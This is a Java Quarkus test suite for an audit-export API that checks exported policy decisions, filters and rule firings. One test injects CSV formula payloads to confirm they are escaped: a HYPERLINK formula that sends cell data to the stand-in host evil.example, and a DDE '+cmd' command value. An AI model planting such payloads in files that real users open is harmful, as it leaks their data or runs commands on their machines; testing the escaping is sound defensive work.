package dev.governor.audit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import dev.governor.testing.RegisteredAgent;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static dev.governor.testing.TestAuth.asAdmin;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.startsWith;

/** Exports parse back (Jackson for NDJSON and CSV) into exactly the stored decisions. */
@QuarkusTest
class AuditExportTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @Test
    void decisionsExportAsNdjsonMatchesTheStoredRecords() throws Exception {
        RegisteredAgent agent = Fixtures.agent("ROUTINE", List.of("sandbox", "production"), List.of("config:*"));
        List<String> ids = List.of(
                Fixtures.decisionId(agent, Fixtures.action("config.update", "sandbox", "cfg/a")),
                Fixtures.decisionId(agent, Fixtures.action("database.drop", "production", "db/main")),
                Fixtures.decisionId(agent, Fixtures.action("config.update", "production", "cfg/b")));

        List<JsonNode> rows = ndjson(asAdmin().queryParam("agentId", agent.id()).get("/v1/audit/decisions").then()
                .statusCode(200).contentType("application/x-ndjson").extract().asString());

        assertThat(rows).extracting(r -> r.get("decisionId").asText()).containsExactlyElementsOf(ids);
        for (JsonNode row : rows) {
            JsonNode stored = JSON.readTree(asAdmin().get("/v1/decisions/{id}", row.get("decisionId").asText()).asString());
            assertThat(row.get("agentId")).isEqualTo(stored.get("agentId"));
            assertThat(row.get("outcome")).isEqualTo(stored.get("response").get("outcome"));
            assertThat(row.get("policyVersion")).isEqualTo(stored.get("policyVersion"));
            assertThat(row.get("request")).isEqualTo(stored.get("request"));
            assertThat(row.get("response")).isEqualTo(stored.get("response"));
            assertThat(row.get("facts")).isEqualTo(stored.get("facts"));
            assertThat(java.time.Instant.parse(row.get("decidedAt").asText()))
                    .isEqualTo(java.time.OffsetDateTime.parse(stored.get("decidedAt").asText()).toInstant());
        }
    }

    @Test
    void decisionsExportAsCsvMatchesTheStoredRecordsAndFiltersByOutcome() throws Exception {
        RegisteredAgent agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
        String allowed = Fixtures.decisionId(agent, Fixtures.action("config.update", "sandbox", "cfg/a"));
        String denied = Fixtures.decisionId(agent, Fixtures.action("database.drop", "sandbox", "db/main"));

        List<Map<String, String>> rows = csv(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv")
                .get("/v1/audit/decisions").then().statusCode(200).contentType(startsWith("text/csv")).extract().asString());
        assertThat(rows).extracting(r -> r.get("decision_id")).containsExactly(allowed, denied);
        for (Map<String, String> row : rows) {
            JsonPath stored = asAdmin().get("/v1/decisions/{id}", row.get("decision_id")).jsonPath();
            assertThat(row.get("outcome")).isEqualTo(stored.getString("response.outcome"));
            assertThat(row.get("agent_id")).isEqualTo(agent.id());
            assertThat(row.get("target")).isEqualTo(stored.getString("request.action.target"));
            assertThat(row.get("reason_codes")).isEqualTo(String.join(";", stored.getList("response.reasons.code")));
            assertThat(row.get("policy_version")).isEqualTo(stored.getString("policyVersion"));
        }

        List<Map<String, String>> deniedOnly = csv(asAdmin().queryParam("agentId", agent.id()).queryParam("outcome", "DENY")
                .header("Accept", "text/csv").get("/v1/audit/decisions").then().statusCode(200)
                .contentType(startsWith("text/csv")).extract().asString());
        assertThat(deniedOnly).extracting(r -> r.get("decision_id")).containsExactly(denied);
        String decidedAt = rows.get(1).get("decided_at");
        assertThat(csv(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv").queryParam("from", decidedAt)
                .get("/v1/audit/decisions").asString())).extracting(r -> r.get("decision_id")).containsExactly(denied);
        assertThat(csv(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv").queryParam("to", decidedAt)
                .get("/v1/audit/decisions").asString())).extracting(r -> r.get("decision_id")).containsExactly(allowed);
    }

    @Test
    void maliciousValuesSurviveCsvAsData() throws Exception {
        RegisteredAgent agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\"), \"quoted\"\r\nsecond line";
        String target = "+cmd|' /C calc'!A0, @SUM(1), -1, \"x\"\nend";
        String id = Fixtures.decide(agent, Fixtures.action("config.update", "sandbox", target),
                Map.of("sessionId", formula)).statusCode(200).extract().path("decisionId");

        String body = asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv").get("/v1/audit/decisions")
                .then().statusCode(200).extract().asString();
        List<Map<String, String>> rows = csv(body);
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0).get("decision_id")).isEqualTo(id);
        assertThat(rows.get(0).get("session_id")).isEqualTo("'" + formula);
        assertThat(rows.get(0).get("target")).isEqualTo("'" + target);
        assertThat(body).doesNotContain(",=HYPERLINK").doesNotContain("\n=").doesNotContain(",+cmd");

        JsonNode row = ndjson(asAdmin().queryParam("agentId", agent.id()).get("/v1/audit/decisions").asString()).get(0);
        assertThat(row.get("sessionId").asText()).isEqualTo(formula);
        assertThat(row.at("/request/action/target").asText()).isEqualTo(target);
    }

    @Test
    void ruleFiringsExportHasOneRowPerRuleFiredOrTableRowMatched() throws Exception {
        RegisteredAgent agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
        String id = Fixtures.decisionId(agent, Fixtures.action("database.drop", "sandbox", "db/main"));
        JsonPath stored = asAdmin().get("/v1/decisions/{id}", id).jsonPath();
        int fired = stored.getList("rulesFired").size() + stored.getList("tableRowsMatched").size();

        List<Map<String, String>> rows = csv(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv")
                .get("/v1/audit/rule-firings").then().statusCode(200).extract().asString());
        assertThat(rows).hasSize(fired).allSatisfy(r -> {
            assertThat(r.get("decision_id")).isEqualTo(id);
            assertThat(r.get("outcome")).isEqualTo("DENY");
            assertThat(r.get("policy_version")).isEqualTo(stored.getString("policyVersion"));
            assertThat(r.get("policy_file")).matches("^(rules|decision-tables)/.+");
        });
        assertThat(rows).extracting(r -> r.get("rule")).containsAll(stored.getList("rulesFired.rule"));
        assertThat(rows).filteredOn(r -> r.get("kind").equals("TABLE_ROW")).extracting(r -> r.get("row_id"))
                .containsExactlyElementsOf(stored.getList("tableRowsMatched.rowId"));
        assertThat(rows).extracting(r -> r.get("reason_code")).contains("PERMISSION_NOT_GRANTED");

        List<JsonNode> json = ndjson(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "ndjson")
                .get("/v1/audit/rule-firings").asString());
        assertThat(json).hasSize(fired);
        assertThat(json).extracting(r -> r.get("seq").asInt()).isSorted();
    }

    @Test
    void badFiltersAnswer400NamingTheParameter() {
        for (Object[] bad : new Object[][] {{"from", "yesterday"}, {"to", "2026-13-01"}, {"agentId", "Bad Id"},
                {"outcome", "MAYBE"}, {"format", "xml"}}) {
            for (String path : List.of("/v1/audit/decisions", "/v1/audit/rule-firings")) {
                asAdmin().queryParam((String) bad[0], bad[1]).get(path).then()
                        .statusCode(400).contentType("application/problem+json")
                        .body("violations.field", hasItem(bad[0]));
            }
        }
        asAdmin().queryParam("from", "2026-02-01T00:00:00Z").queryParam("to", "2026-01-01").get("/v1/audit/decisions")
                .then().statusCode(400).body("violations.field", hasItem("to"));
    }

    @Test
    void theLogExportAndTheHashEndpointRejectWhatTheyCannotServe() {
        asAdmin().queryParam("fromSeq", "0").get("/v1/audit/log").then()
                .statusCode(400).body("violations.field", hasItem("fromSeq"));
        asAdmin().contentType("application/json").body("{\"value\": \"x\"}").post("/v1/audit/hash").then()
                .statusCode(409).contentType("application/problem+json"); // no key configured in this profile
    }

    static List<JsonNode> ndjson(String body) throws Exception {
        List<JsonNode> rows = new ArrayList<>();
        try (MappingIterator<JsonNode> it = JSON.readerFor(JsonNode.class).readValues(body)) {
            it.forEachRemaining(rows::add);
        }
        assertThat(body.isEmpty() || body.endsWith("\n")).isTrue();
        assertThat(body.lines().count()).isEqualTo(rows.size());
        return rows;
    }

    static List<Map<String, String>> csv(String body) throws Exception {
        CsvMapper mapper = new CsvMapper();
        try (MappingIterator<Map<String, String>> it = mapper.readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(body)) {
            return it.readAll();
        }
    }
}
